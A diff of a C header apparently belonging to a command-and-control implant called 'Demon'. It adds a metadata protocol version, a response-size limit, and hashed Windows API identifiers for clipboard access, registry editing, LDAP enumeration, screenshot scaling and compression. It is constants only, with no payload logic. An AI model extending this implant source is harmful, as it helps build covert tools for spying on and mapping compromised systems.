@@ -14,6 +14,17 @@
 
 #define DEMON_MAGIC_VALUE 0xDEADBEEF
 
+/* version of the metadata layout. the flag tells the teamserver
+ * it's a version and not the length of the host name (version 1) */
+#define DEMON_PROTOCOL_FLAG    0x80000000
+#define DEMON_PROTOCOL_VERSION 5
+
+/* max size of a response from the teamserver the transport takes (0 = no limit).
+ * the teamserver splits bigger task payloads over multiple checkins */
+#ifndef TRANSPORT_MAX_RESPONSE
+#define TRANSPORT_MAX_RESPONSE 0
+#endif
+
 #define WIN_VERSION_UNKNOWN 0
 #define WIN_VERSION_XP      1
 #define WIN_VERSION_VISTA   2
@@ -95,6 +106,9 @@
 #define H_FUNC_RTLRANDOMEX                           0x7f1224f5
 #define H_FUNC_RTLNTSTATUSTODOSERROR                 0x39d7c890
 #define H_FUNC_RTLGETVERSION                         0xdde5cdd
+#define H_FUNC_RTLGETCOMPRESSIONWORKSPACESIZE        0x3deb55f3
+#define H_FUNC_RTLCOMPRESSBUFFER                     0x417e60bd
+#define H_FUNC_RTLDECOMPRESSBUFFER                   0x17ab2746
 #define H_FUNC_RTLADDVECTOREDEXCEPTIONHANDLER        0x2df06c89
 #define H_FUNC_RTLREMOVEVECTOREDEXCEPTIONHANDLER     0xad1b018e
 #define H_FUNC_RTLCREATETIMERQUEUE                   0x50ef3c31
@@ -154,6 +168,7 @@
 #define H_FUNC_GETFULLPATHNAMEW                      0xa6a2249d
 #define H_FUNC_GETFILESIZE                           0x7b813820
 #define H_FUNC_GETFILESIZEEX                         0x60afc95d
+#define H_FUNC_SETFILEPOINTEREX                      0x7cb4684f
 #define H_FUNC_CREATENAMEDPIPEW                      0xa05e2a83
 #define H_FUNC_CONVERTFIBERTOTHREAD                  0x11b30049
 #define H_FUNC_CREATEFIBEREX                         0x7b94a3fe
@@ -161,6 +176,7 @@
 #define H_FUNC_VIRTUALALLOCEX                        0x5775bd54
 #define H_FUNC_WAITFORSINGLEOBJECTEX                 0x512e1b97
 #define H_FUNC_GETCOMPUTERNAMEEXA                    0xec725c53
+#define H_FUNC_GETCOMPUTERNAMEEXW                    0xec725c69
 #define H_FUNC_EXITPROCESS                           0xd154167e
 #define H_FUNC_GETEXITCODEPROCESS                    0xa7c5fd39
 #define H_FUNC_GETEXITCODETHREAD                     0x538852b2
@@ -206,6 +222,7 @@
 #define H_FUNC_CREATEPROCESSWITHLOGONW               0xe139fc0a
 #define H_FUNC_REVERTTOSELF                          0x7292758a
 #define H_FUNC_GETUSERNAMEA                          0xfca17e46
+#define H_FUNC_GETUSERNAMEW                          0xfca17e5c
 #define H_FUNC_LOGONUSERW                            0x5ed5d61a
 #define H_FUNC_LOOKUPACCOUNTSIDA                     0xd51fdf8d
 #define H_FUNC_LOOKUPACCOUNTSIDW                     0xd51fdfa3
@@ -229,6 +246,14 @@
 #define H_FUNC_CONVERTSIDTOSTRINGSIDW                0x2fb2f7d7
 #define H_FUNC_GETSIDSUBAUTHORITYCOUNT               0xd4c0dda1
 #define H_FUNC_GETSIDSUBAUTHORITY                    0xe5d12f8
+#define H_FUNC_REGOPENKEYEXW                         0x83e34e72
+#define H_FUNC_REGCREATEKEYEXW                       0xc988e74
+#define H_FUNC_REGCLOSEKEY                           0x7649a602
+#define H_FUNC_REGQUERYVALUEEXW                      0xd37cffca
+#define H_FUNC_REGENUMKEYEXW                         0xe9a3d275
+#define H_FUNC_REGENUMVALUEW                         0x2fd500c
+#define H_FUNC_REGSETVALUEEXW                        0x2cea05e0
+#define H_FUNC_REGDELETEVALUEW                       0x7f6bf10a
 #define H_FUNC_LOOKUPPRIVILEGEVALUEA                 0x1e344064
 #define H_FUNC_SAFEARRAYACCESSDATA                   0xf6a0d34f
 #define H_FUNC_SAFEARRAYUNACCESSDATA                 0xe981b312
@@ -237,17 +262,27 @@
 #define H_FUNC_SAFEARRAYCREATEVECTOR                 0x6b6a636a
 #define H_FUNC_SAFEARRAYDESTROY                      0x12b6aed
 #define H_FUNC_SYSALLOCSTRING                        0x3351eb46
+#define H_FUNC_SYSFREESTRING                         0xa20b53d
 #define H_FUNC_COMMANDLINETOARGVW                    0xec6ba0d6
 #define H_FUNC_SHOWWINDOW                            0x29bbc91e
 #define H_FUNC_GETSYSTEMMETRICS                      0x287c6401
 #define H_FUNC_GETDC                                 0xd2b106c
 #define H_FUNC_RELEASEDC                             0x6fbc050d
+#define H_FUNC_OPENCLIPBOARD                         0xb77d12c7
+#define H_FUNC_CLOSECLIPBOARD                        0xe059220b
+#define H_FUNC_GETCLIPBOARDDATA                      0x6ce3ed8f
+#define H_FUNC_GETCLIPBOARDSEQUENCENUMBER            0xeb6d85d7
+#define H_FUNC_ISCLIPBOARDFORMATAVAILABLE            0x8d550dbb
+#define H_FUNC_GLOBALLOCK                            0x478ba3df
+#define H_FUNC_GLOBALUNLOCK                          0x6df57622
 #define H_FUNC_GETCURRENTOBJECT                      0xfe6f663f
 #define H_FUNC_GETOBJECTW                            0xa04fbb33
 #define H_FUNC_CREATECOMPATIBLEDC                    0xd0b24920
 #define H_FUNC_CREATEDIBSECTION                      0x2c2309dd
 #define H_FUNC_SELECTOBJECT                          0x96a6b43c
 #define H_FUNC_BITBLT                                0xa72badc6
+#define H_FUNC_STRETCHBLT                            0xf34eee24
+#define H_FUNC_SETSTRETCHBLTMODE                     0xa509d795
 #define H_FUNC_DELETEOBJECT                          0xe619cf2f
 #define H_FUNC_DELETEDC                              0xb2fa1ebf
 #define H_FUNC_SETPROCESSVALIDCALLTARGETS            0x647d9236
@@ -260,6 +295,29 @@
 #define H_FUNC_NETSESSIONENUM                        0xf155c7e5
 #define H_FUNC_NETSHAREENUM                          0xef26c94
 #define H_FUNC_NETAPIBUFFERFREE                      0x694e2662
+#define H_FUNC_LDAP_INITA                            0x47b81a7a
+#define H_FUNC_LDAP_SET_OPTION                       0x498b5ce9
+#define H_FUNC_LDAP_BIND_SA                          0xeff96b95
+#define H_FUNC_LDAP_SEARCH_SA                        0x1531c9ae
+#define H_FUNC_LDAP_SEARCH_INIT_PAGEA                0xddafe4cb
+#define H_FUNC_LDAP_GET_NEXT_PAGE_S                  0x2b312091
+#define H_FUNC_LDAP_SEARCH_ABANDON_PAGE              0x4e2967c9
+#define H_FUNC_LDAP_COUNT_ENTRIES                    0xf07f95e7
+#define H_FUNC_LDAP_FIRST_ENTRY                      0x6c31235e
+#define H_FUNC_LDAP_NEXT_ENTRY                       0xbc259ff5
+#define H_FUNC_LDAP_GET_DNA                          0x6802e697
+#define H_FUNC_LDAP_FIRST_ATTRIBUTEA                 0xbcec2181
+#define H_FUNC_LDAP_NEXT_ATTRIBUTEA                  0xc5491478
+#define H_FUNC_LDAP_GET_VALUES_LENA                  0xf40ff7f3
+#define H_FUNC_LDAP_VALUE_FREE_LEN                   0xbbae94a1
+#define H_FUNC_LDAP_MEMFREEA                         0xdfd9bd87
+#define H_FUNC_BER_FREE                              0xea446fff
+#define H_FUNC_LDAP_MSGFREE                          0x558fd24e
+#define H_FUNC_LDAP_UNBIND                           0x5ab54dc5
+#define H_FUNC_LDAPGETLASTERROR                      0xbe4b7884
+#define H_FUNC_COINITIALIZEEX                        0xa4f90586
+#define H_FUNC_COCREATEINSTANCE                      0xa2d91380
+#define H_FUNC_COUNINITIALIZE                        0xe4716acc
 #define H_FUNC_WSASTARTUP                            0x142e89c3
 #define H_FUNC_WSACLEANUP                            0x32206eb8
 #define H_FUNC_WSASOCKETA                            0x8a4d8fa